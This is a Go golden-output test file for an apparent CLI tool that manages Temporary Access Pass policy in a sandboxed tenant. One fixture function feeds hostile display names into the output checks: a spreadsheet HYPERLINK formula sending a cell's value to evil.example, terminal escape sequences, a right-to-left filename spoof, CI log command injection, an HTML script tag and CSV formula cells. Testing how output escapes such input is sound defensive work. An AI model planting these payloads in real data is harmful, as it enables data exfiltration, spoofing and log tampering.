package root_test

import (
	"bytes"
	"flag"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/seed-5ddf9a5e/tap/pkg/build"
	"github.com/seed-5ddf9a5e/tap/pkg/cmd/root"
	"github.com/seed-5ddf9a5e/tap/pkg/output"
	"github.com/seed-5ddf9a5e/tap/pkg/sandbox"
	"github.com/seed-5ddf9a5e/tap/pkg/terminal"
)

var update = flag.Bool("update", false, "write testdata/golden")

const (
	goldens = "../../../testdata/golden"
	rewrite = "go test ./pkg/cmd/root -run TestGolden -update"
)

// shell is where command lines are typed: a sandbox of its own, and what is at the ends of the streams.
type shell struct {
	dir     string
	columns int // of a terminal; 0: stdout and stderr are caught
	env     map[string]string
	typed   string            // on stdin
	names   map[string]string // what Graph says in place of a name
}

func newShell(t *testing.T) shell { return shell{dir: t.TempDir()} }

type ended struct {
	stdout, stderr string
	exit           int
}

// tap runs one command line, in the whole program.
func (s shell) tap(words ...string) ended {
	var out, errOut bytes.Buffer
	tty := s.columns > 0
	code := root.Main(&root.Process{
		Args:    words,
		Streams: &terminal.Streams{In: strings.NewReader(s.typed), Out: &out, Err: &errOut, OutTTY: tty, ErrTTY: tty, Columns: s.columns},
		Getenv: func(name string) string {
			switch name {
			case "TAP_SANDBOX_DIR":
				return s.dir
			case "XDG_STATE_HOME":
				return filepath.Join(s.dir, "state")
			}
			return s.env[name]
		},
		Wrap: func(next http.RoundTripper) http.RoundTripper { return renaming{next, s.names} },
	})
	return ended{out.String(), errOut.String(), code}
}

// control speaks to the sandbox's control plane, as somebody else in the tenant.
func (s shell) control(t *testing.T, path, body string) {
	t.Helper()
	box, err := sandbox.Open(s.dir, sandbox.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer box.Close()
	req := httptest.NewRequest(http.MethodPost, "http://127.0.0.1/sandbox/"+path, strings.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	rec := httptest.NewRecorder()
	if box.Handler().ServeHTTP(rec, req); rec.Code > 299 {
		t.Fatalf("%s %s: %d %s", path, body, rec.Code, rec.Body)
	}
}

// renaming puts other names into the answers of Graph.
type renaming struct {
	http.RoundTripper
	names map[string]string
}

func (r renaming) RoundTrip(req *http.Request) (*http.Response, error) {
	resp, err := r.RoundTripper.RoundTrip(req)
	if err != nil || len(r.names) == 0 {
		return resp, err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	for from, to := range r.names {
		b = bytes.ReplaceAll(b, inJSON(from), inJSON(to))
	}
	resp.Body, resp.ContentLength = io.NopCloser(bytes.NewReader(b)), int64(len(b))
	resp.Header.Set("Content-Length", strconv.Itoa(len(b)))
	return resp, err
}

func inJSON(s string) []byte {
	b, _ := output.Encode(s)
	return b
}

// goldenCase is some command lines in one shell, typed as a person or a script would. Its files are NAME.FORMAT.txt, for
// tables NAME.table.COLUMNS.txt and NAME.table.80.colour.txt.
type goldenCase struct {
	name   string
	lines  []string // words are separated by |
	before func(t *testing.T, s *shell)
	value  []string // the lines for -o value, where the bare value is not one of these
}

// TestGolden holds the output of every command that pkg/cmd/pass does not have, in every format and at three widths,
// against the files in testdata/golden. A file holds what a shell shows of each line: stdout, stderr, and the exit code where it is not 0.
func TestGolden(t *testing.T) {
	t.Parallel()
	g := goldenFiles{}
	for _, c := range append(goldenCases(), runCases()...) {
		s := newShell(t)
		if c.before != nil {
			c.before(t, &s)
		}
		for _, columns := range []int{60, 80, 200} {
			s.columns, s.env = columns, map[string]string{"NO_COLOR": "1"}
			g.check(t, fmt.Sprintf("%s.table.%d", c.name, columns), c.transcript(s, output.Table))
		}
		s.columns, s.env = 80, nil
		g.check(t, c.name+".table.80.colour", c.transcript(s, output.Table))
		s.columns = 0
		for _, f := range output.Formats()[1:] {
			g.check(t, c.name+"."+string(f), c.transcript(s, f))
		}
	}
	g.orphans(t, func(name string) bool {
		command, _, _ := strings.Cut(name, ".")
		return !slices.Contains([]string{"create", "list", "delete"}, command) && !strings.HasPrefix(name, "result.every.") && !strings.HasPrefix(name, "sandbox.serve") // other packages have these
	})
}

// TestGoldenWidths: no line of an answer is wider than the terminal, but for a row with a user principal name that alone is: it is
// read out, and never cut. What stands on stderr is broken by the terminal, so that a command in it can be copied.
func TestGoldenWidths(t *testing.T) {
	t.Parallel()
	files, err := filepath.Glob(filepath.Join(goldens, "*.table.*.txt"))
	if err != nil || len(files) < 100 {
		t.Fatal(len(files), err)
	}
	colour := regexp.MustCompile(`\x1b\[[0-9;]*m`)
	for _, path := range files {
		b, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		width, err := strconv.Atoi(regexp.MustCompile(`\.table\.(\d+)`).FindStringSubmatch(path)[1])
		if err != nil {
			t.Fatal(err)
		}
		stdout := false
		for n, line := range strings.Split(string(b), "\n") {
			switch line = colour.ReplaceAllString(line, ""); {
			case strings.HasPrefix(line, "$ tap "):
				stdout = true
			case line == "-- stderr --":
				stdout = false
			case stdout && output.Width(line) > width && output.Width(strings.Fields(line)[0]) <= 60:
				t.Errorf("%s:%d: %d columns: %s", filepath.Base(path), n+1, output.Width(line), line)
			}
		}
	}
}

func (c goldenCase) transcript(s shell, f output.Format) string {
	var b strings.Builder
	lines := c.lines
	if f == output.Value && c.value != nil {
		lines = c.value
	}
	for _, line := range lines {
		words := strings.Split(strings.ReplaceAll(line, "DIR", s.dir), "|")
		if f != output.Table {
			words = append(words, "-o", string(f))
		}
		r := s.tap(append(words, "--tz", "UTC")...)
		fmt.Fprintf(&b, "$ tap %s\n%s", strings.Join(words, " "), r.stdout)
		if r.stderr != "" {
			fmt.Fprintf(&b, "-- stderr --\n%s", r.stderr)
		}
		if r.exit != 0 {
			fmt.Fprintf(&b, "-- exit %d --\n", r.exit)
		}
	}
	return masked(strings.ReplaceAll(b.String(), s.dir, "SANDBOX"))
}

// masked replaces what another build or another second has otherwise.
func masked(text string) string {
	i := build.Read()
	for _, m := range []struct{ pattern, with string }{
		{regexp.QuoteMeta(i.Version) + `,[^,\n]*,[^,\n]*,go[^,\n]+,\w+/\w+`, "VERSION,COMMIT,DATE,GO,PLATFORM"}, // csv
		{`tap ` + regexp.QuoteMeta(i.Version) + ` \(\S+, \w+/\w+\)`, "tap VERSION (GO, PLATFORM)"},
		{`(\bversion"?: ?)"[^"]*"`, `${1}"VERSION"`},
		{`(\bcommit"?: ?)(null|"[^"]*")`, `${1}"COMMIT"`},
		{`(\bdate"?: ?)(null|"[^"]*")`, `${1}"DATE"`},
		{`(\bgo"?: ?)"[^"]*"`, `${1}"GO"`},
		{`(\bplatform"?: ?)"[^"]*"`, `${1}"PLATFORM"`},
		{`(?m)(^\$ tap version -o value\n)` + regexp.QuoteMeta(i.Version) + `$`, "${1}VERSION"},
		{`(T08:00:0)\dZ`, "${1}0Z"}, // the sandbox's clock goes on from where it was put
		{` 08:00(:0\d)? UTC`, " 08:00 UTC"},
	} {
		text = regexp.MustCompile(m.pattern).ReplaceAllString(text, m.with)
	}
	return text
}

// Objects of the sandbox's seed.
const (
	helpdeskGroup = "6d290db7-d8f0-519d-99f5-e68508dd72cd"
	newHires      = "e9f307ee-a852-5b9c-9c09-faf25ab08778"
	emptyGroup    = "4d5c0580-cf69-5b3c-a68b-ea4e1db6886b"
	sales         = "5e2eefe3-807c-591e-966b-8410de7bf57f"
	marketing     = "9345bec7-cb48-5fe4-afa2-92fa366d48d8"
	noPass        = "85158a66-1cb4-5817-baef-d4b7b71a440c"
	adele         = "1002d24a-e3ab-5479-9464-bab42e271317"
)

// strangeNames are what the groups of the seed, and one user, can be called.
func strangeNames() map[string]string {
	return map[string]string{
		"Helpdesk":                 `=HYPERLINK("http://evil.example/?x="&A1,"Click me")`,
		"New Hires":                "Eve \x1b[2J\x1b]0;owned\x07\u009b31m \u202etxt.exe\u202c \u200bZero\nincluded          every user of the tenant\u2028",
		"Empty":                    "::set-output name=x::y ##vso[task.complete result=Failed]z ##[error]w",
		"Sales and Marketing":      "山田 太郎 🦜 👩‍🚀 فاطمة الزهراء",
		"Marketing EMEA":           strings.Repeat("Wolfeschlegelsteinhausen ", 10) + "Berger",
		"No Temporary Access Pass": `Miles O'Brien <script>alert("contoso")</script>`,
		"Adele Vance":              "-2+3 : \ttab # no comment",
	}
}

func goldenCases() []goldenCase {
	groups := func(typ string, ids ...string) string {
		var targets []string
		for _, id := range ids {
			targets = append(targets, fmt.Sprintf(`{"id":%q,"targetType":%q}`, id, typ))
		}
		return strings.Join(targets, ",")
	}
	many := `{"isUsableOnce":false,"defaultLifetimeInMinutes":600,"maximumLifetimeInMinutes":1440,"includeTargets":[` +
		groups("group", helpdeskGroup, newHires, sales, marketing) + "," + groups("user", adele) + `],"excludeTargets":[` + groups("group", noPass, emptyGroup, helpdeskGroup) + "]}"
	good := `{"isUsableOnce":true,"defaultLength":12,"includeTargets":[` + groups("group", newHires) + `]}`
	policy := func(body string, names map[string]string) func(t *testing.T, s *shell) {
		return func(t *testing.T, s *shell) { s.control(t, "policy", body); s.names = names }
	}
	disabled := func(t *testing.T, s *shell) {
		s.control(t, "policy", strings.Replace(many, "{", `{"state":"disabled",`, 1))
		s.control(t, "groups", `{"delete":"`+sales+`"}`)
	}
	file := func(body string, names map[string]string) func(t *testing.T, s *shell) {
		return func(t *testing.T, s *shell) {
			s.typed = body
			s.names = names
		}
	}
	other := `{"state":"disabled","isUsableOnce":true,"maximumLifetimeInMinutes":240,"defaultLength":20,"includeTargets":[` +
		groups("group", helpdeskGroup, newHires, emptyGroup, sales, marketing) + `],"excludeTargets":[]}`
	const (
		show, diff, check, set = "--sandbox|policy|show", "--sandbox|policy|diff|--exit-code|-f|-", "--sandbox|policy|check", "--sandbox|policy|set|--dry-run"
		change                 = "--sandbox|--sandbox-as|privileged|policy|set|--yes"
		much                   = set + "|--disable|--one-time|--max-lifetime|4h|--length|20|--include|" + helpdeskGroup + "|--include|" + newHires + "|--include|" + emptyGroup + "|--include|" + marketing + "|--exclude|" + sales
	)
	only := func(line, columns string) []string { return []string{line + "|--columns|" + columns} }
	const doctored, checked = "--sandbox|--sandbox-as|app:" + allPermissions + "|doctor", "id,status,finding,remedy,hint"
	const shown, differs, found = "state,isUsableOnce,maximumLifetimeInMinutes,includeTargets", "property,change,from,to,displayName,effect", "severity,reason,displayName,message,hint"
	signedIn := func(t *testing.T, s *shell) {
		r := s.tap("--sandbox", "create", "maria_fabrikam.com#EXT#@contoso.com", "-o", "value", "-q")
		if r.exit == 0 {
			t.Fatal("an external guest got a pass")
		}
		r = s.tap("--sandbox", "create", "adele.vance@contoso.com", "-o", "value", "-q")
		if s.typed = r.stdout; r.exit != 0 {
			t.Fatal(r.stderr)
		}
	}
	noon := func(_ *testing.T, s *shell) { s.tap("sandbox", "clock", "2026-12-01T08:00:00Z") }
	const regarded = "userPrincipalName,displayName,jobTitle,canIssue,reason,hint"
	const reports = "--sandbox|report|--file|DIR/new-hires.csv|--since|2024-01-19T12:00:00Z"
	rostered := func(t *testing.T, s *shell) {
		s.control(t, "clock", `{"set":"2126-12-01T08:00:00Z"}`)
		roster := "user,office,=note\nalex.wilber@contoso.com,Helsinki,=1+1\nadele.vance@contoso.com,,\x1b[2J ::error::x\nmegan.bowen@contoso.com,東京,\nirvin.sayers@contoso.com,東京,\n"
		if err := os.WriteFile(filepath.Join(s.dir, "new-hires.csv"), []byte(roster), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return []goldenCase{
		{"policy.show.one", []string{show}, nil, only(show, shown)},
		{"policy.show.many", []string{show}, policy(many, nil), only(show, shown)},
		{"policy.show.hostile", []string{show}, policy(many, strangeNames()), only(show, shown)},
		{"policy.diff.none", []string{diff}, file(`{"state":"enabled"}`, nil), only(diff, differs)},
		{"policy.diff.one", []string{diff}, file(`{"state":"disabled"}`, nil), only(diff, differs)},
		{"policy.diff.many", []string{diff}, file(other, nil), only(diff, differs)},
		{"policy.diff.hostile", []string{diff}, file(other, strangeNames()), only(diff, differs)},
		{"policy.check.none", []string{check}, policy(good, nil), only(check, found)},
		{"policy.check.one", []string{check}, policy(strings.Replace(good, `"defaultLength":12,`, "", 1), nil), only(check, found)},
		{"policy.check.many", []string{check}, disabled, only(check, found)},
		{"policy.check.hostile", []string{check}, policy(many, strangeNames()), only(check, found)},
		{"policy.set.none", []string{set + "|--enable"}, nil, only(set+"|--enable", differs)},
		{"policy.set.one", []string{set + "|--one-time"}, nil, only(set+"|--one-time", differs)},
		{"policy.set.many", []string{much}, nil, only(much, differs)},
		{"policy.set.hostile", []string{much}, file("", strangeNames()), only(much, differs)},
		{"policy.set.changed", []string{change + "|--one-time|--max-lifetime|4h", change + "|--multi-use|--max-lifetime|8h"}, nil, []string{change + "|--one-time|--columns|" + differs, change + "|--multi-use|--columns|" + differs}},
		{"doctor.none", []string{doctored + "|-q"}, policy(good, nil), only(doctored, checked)},
		{"doctor.many", []string{"--sandbox|--sandbox-as|noscope|doctor"}, disabled, only("--sandbox|doctor", checked)},
		{"doctor.hostile", []string{"--sandbox|--sandbox-as|app|doctor|adele.vance@contoso.com"}, policy(many, strangeNames()), only("--sandbox|doctor", checked)},
		{"show.one", []string{"--sandbox|show|adele.vance@contoso.com|--sign-ins"}, noon, only("--sandbox|show|adele.vance@contoso.com", regarded)},
		{"show.refused", []string{"--sandbox|show|mod.admin@contoso.com"}, noon, only("--sandbox|show|mod.admin@contoso.com", regarded)},
		{"show.unseen", []string{"--sandbox|--sandbox-as|nopolicy|show|lee.gu@contoso.com"}, noon, only("--sandbox|--sandbox-as|nopolicy|show|lee.gu@contoso.com", regarded)},
		{"show.hostile", []string{"--sandbox|show|runner.command@contoso.com"}, func(t *testing.T, s *shell) {
			noon(t, s)
			s.names = map[string]string{"Henrietta Mueller": strangeNames()["New Hires"], "Engineering": strangeNames()["Helpdesk"]}
		}, only("--sandbox|show|runner.command@contoso.com", regarded)},
		{"report.many", []string{reports + "|--by|office"}, rostered, only(reports, "userPrincipalName,stage,registeredMethods")},
		{"report.sums", []string{reports + "|--sum|--by|office"}, rostered, only(reports+"|--sum", "value,users,issued,registered")},
		{"report.hostile", []string{reports}, func(t *testing.T, s *shell) { rostered(t, s); s.names = strangeNames() }, only(reports, "displayName,stage")},
		{"sandbox.reset.done", []string{"sandbox|reset"}, nil, nil},
		{"sandbox.users.all", []string{"sandbox|users"}, nil, only("sandbox|users", "userPrincipalName,displayName,jobTitle,department")},
		{"sandbox.clock.moved", []string{"sandbox|clock|2026-12-01T08:00:00Z"}, nil, nil},
		{"sandbox.signin.in", []string{"sandbox|signin|adele.vance@contoso.com"}, signedIn, nil},
		{"sandbox.signin.refused", []string{"sandbox|signin|adele.vance@contoso.com", "sandbox|signin|nobody@contoso.com", "sandbox|signin|miles.o'brien@contoso.com"}, file("+drkzqAD\n", nil), nil},
		{"whoami.person", []string{"--sandbox|whoami"}, nil, nil},
		{"whoami.application", []string{"--sandbox|whoami|--sandbox-as|app"}, nil, nil},
		{"version.this", []string{"version"}, nil, nil},
	}
}

// goldenFiles are the files that the cases of a test write.
type goldenFiles map[string]bool

// check holds text against a file, or writes it there with -update.
func (g goldenFiles) check(t *testing.T, name, text string) {
	t.Helper()
	name += ".txt"
	if g[name] {
		t.Errorf("two cases write %s", name)
	}
	g[name] = true
	path := filepath.Join(goldens, name)
	if *update {
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Errorf("%v: run `%s` and look at it", err, rewrite)
	} else if diff := cmp.Diff(string(want), text); diff != "" {
		t.Errorf("%s (-want +got), written by `%s`:\n%s", name, rewrite, diff)
	}
}

// orphans finds files that are this test's and that no case writes.
func (g goldenFiles) orphans(t *testing.T, mine func(name string) bool) {
	t.Helper()
	entries, err := os.ReadDir(goldens)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if name := e.Name(); !g[name] && !strings.HasPrefix(name, ".") && mine(name) {
			t.Errorf("no case writes %s: remove it", filepath.Join(goldens, name))
		}
	}
}
